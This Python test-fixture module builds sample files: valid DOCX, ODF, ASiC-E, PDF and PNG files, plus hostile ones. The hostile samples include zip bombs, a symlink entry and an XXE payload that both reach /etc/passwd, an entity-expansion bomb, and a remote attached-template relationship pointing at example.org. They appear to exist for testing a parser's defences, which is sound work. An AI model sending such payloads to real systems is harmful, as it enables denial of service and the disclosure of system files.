"""Files made in code: clean ones, as offices send them, and hostile ones, as the Internet does."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OPENXML = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}


def zipped(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def openxml(kind: str = "docx", extra: dict[str, bytes] | None = None) -> bytes:
    """The skeleton of an office file with more parts in it."""
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types/>',
        "_rels/.rels": b"<Relationships/>",
        OPENXML[kind]: b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:root xmlns:w="w"/>',
    }
    return zipped(parts | (extra or {}))


def letter_docx(text: str = "Шановна Галино Петрівно!") -> bytes:
    """A Word file that Word and LibreOffice open."""
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    rels = "application/vnd.openxmlformats-package.relationships+xml"
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{types}"><Default Extension="rels" ContentType="{rels}"/>'
            f'<Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'.encode(),
            "_rels/.rels": f'<Relationships xmlns="{package}"><Relationship Id="r1" '
            f'Type="{RELATION}/officeDocument" Target="word/document.xml"/></Relationships>'.encode(),
            "word/document.xml": f'<w:document xmlns:w="{word}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r>'
            "</w:p></w:body></w:document>".encode(),
        }
    )


def odf(kind: str = "text", extra: dict[str, bytes] | None = None) -> bytes:
    parts = {"content.xml": b"<office:document-content/>", "META-INF/manifest.xml": b"<m:manifest/>"}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}", zipfile.ZIP_STORED)
        for name, content in (parts | (extra or {})).items():
            archive.writestr(name, content)
    return out.getvalue()


def asice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.etsi.asic-e+zip")
        archive.writestr("лист.pdf", pdf())
        archive.writestr("META-INF/signature001.p7s", b"0")
    return out.getvalue()


def pdf(text: str = "Obih", pages: int = 1) -> bytes:
    """A small lawful PDF with a cross-reference table."""
    kids = " ".join(f"{4 + 2 * at} 0 R" for at in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for at in range(pages):
        drawn = f"BT /F1 24 Tf 72 720 Td ({text} {at + 1}) Tj ET".encode()
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {5 + 2 * at} 0 R "
            "/Resources << /Font << /F1 3 0 R >> >> >>".encode()
        )
        objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawn), drawn))
    return assembled(objects)


def assembled(objects: list[bytes]) -> bytes:
    """A PDF file of these objects, numbered from 1; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def png(width: int = 40, height: int = 30, *, header_only: bool = False) -> bytes:
    """A grey PNG, or a few bytes that promise an image of any size."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))

    header = chunk(b"IHDR", struct.pack(">2L5B", width, height, 8, 0, 0, 0, 0))
    rows = b"" if header_only else (b"\0" + b"\x80" * width) * height
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def bomb(unpacked: int = 200 * 1024 * 1024) -> bytes:
    """One entry of zeros: 1000 times larger than it looks."""
    return zipped({"scan.txt": bytes(unpacked)})


def overlapping_bomb(entries: int = 200) -> bytes:
    """Many lines of contents that all point at the same packed bytes (after D. Fifield)."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(bytes(1_000_000)) + kernel.flush()
    crc = zlib.crc32(bytes(1_000_000))
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(packed), 1_000_000, 1, 0) + b"a"
    table = b"".join(
        struct.pack(
            "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(packed), 1_000_000, 4, 0, 0, 0, 0, 0, 0
        )
        + b"%04d" % at
        for at in range(entries)
    )
    at = len(local) + len(packed)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, entries, entries, len(table), at, 0)
    return local + packed + table + end


def many_entries(count: int = 100_000) -> bytes:
    return zipped({f"{at}": b"" for at in range(count)}, zipfile.ZIP_STORED)


def encrypted_zip() -> bytes:
    """A stored entry whose flag says it is encrypted."""
    raw = bytearray(zipped({"лист.txt": b"secret"}, zipfile.ZIP_STORED))
    raw[6] |= 1
    at = raw.index(b"PK\1\2")
    raw[at + 8] |= 1
    return bytes(raw)


def symlink_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("лист.pdf")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def ole(*streams: str) -> bytes:
    """Enough of an OLE file for its directory to be read: a header and sectors of directory entries."""
    entries = b"".join((name.encode("utf-16-le") + b"\0\0").ljust(128, b"\0") for name in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + entries


def cms() -> bytes:
    return bytes.fromhex("308006092a864886f70d010702a08000000000")


XXE = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
)
XXE_IN_UTF16 = XXE.decode().encode("utf-16")
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    b"<l>&b;</l>"
)
REMOTE_TEMPLATE = (
    f'<Relationships><Relationship Id="r1" Type="{RELATION}/attachedTemplate" '
    'Target="https://example.org/x.dotm" TargetMode="External"/></Relationships>'
).encode()
OWN_TEMPLATE = REMOTE_TEMPLATE.replace(b"https://example.org/x.dotm", b"file:///C:/Users/h/Normal.dotm")
